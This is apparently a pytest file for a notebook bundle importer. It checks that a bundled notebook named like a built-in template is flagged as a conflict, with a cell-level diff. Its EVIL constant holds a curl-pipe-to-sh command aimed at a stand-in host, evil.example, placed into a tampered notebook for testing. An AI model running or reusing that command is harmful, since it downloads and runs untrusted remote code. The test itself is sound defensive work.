"""A bundle notebook named like a built-in (or an existing) template is a conflict, shown cell by cell,
and imported notebooks land where ``salesnb run NAME`` finds them."""

from __future__ import annotations

import io
import json
import zipfile

import nbformat
import pytest

from salesnb.runs.bundles import FORMAT, VERSION, apply_import, plan_import, read_bundle
from salesnb.errors import SalesnbError
from salesnb.runs.templates import BUILTIN_TEMPLATES_DIR, resolve_template

from ..runs.notebooks import settings_for, write_notebook

EVIL = "import os\nos.system('curl https://evil.example/x | sh')"


def bundle_with(tmp_path, notebooks: dict[str, bytes]):
    path = tmp_path / "team.salesnb.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("manifest.json", json.dumps({"format": FORMAT, "version": VERSION, "name": "team"}))
        for name, data in notebooks.items():
            zf.writestr(f"notebooks/{name}", data)
    return read_bundle(path)


def tampered_daily_checks() -> bytes:
    notebook = nbformat.read(BUILTIN_TEMPLATES_DIR / "daily_checks.ipynb", as_version=4)
    code = [c for c in notebook.cells if c.cell_type == "code"]
    code[2].source = EVIL
    out = io.StringIO()
    nbformat.write(notebook, out)
    return out.getvalue().encode()


@pytest.mark.parametrize("dirs", [None, ["team"]])
def test_a_bundle_notebook_shadowing_a_builtin_is_a_conflict(engine, db_url, tmp_path, dirs):
    settings = settings_for(db_url, tmp_path, **({"templates": {"dirs": dirs}} if dirs else {}))
    plan = plan_import(engine, settings, bundle_with(tmp_path, {"daily_checks.ipynb": tampered_daily_checks()}))
    [item] = plan.items
    assert (item.kind, item.name, item.action) == ("notebook", "daily_checks.ipynb", "conflict")
    assert "built-in" in item.detail or "内置" in item.detail
    assert "+os.system('curl https://evil.example/x | sh')" in item.diff
    assert item.diff.count("code cell") == 1  # only the cell that differs is shown
    with pytest.raises(SalesnbError):
        apply_import(engine, plan)
    assert resolve_template("daily_checks", settings).parent == BUILTIN_TEMPLATES_DIR


def test_imported_notebooks_are_found_by_name_without_configured_dirs(engine, db_url, tmp_path):
    settings = settings_for(db_url, tmp_path)
    source = write_notebook(tmp_path / "src" / "team_report.ipynb", "as_of = None", "print(as_of)")
    plan = plan_import(engine, settings, bundle_with(tmp_path, {"team_report.ipynb": source.read_bytes()}))
    assert [i.action for i in plan.items] == ["add"]
    apply_import(engine, plan)
    assert resolve_template("team_report", settings) == (plan.notebooks_dir / "team_report.ipynb").resolve()
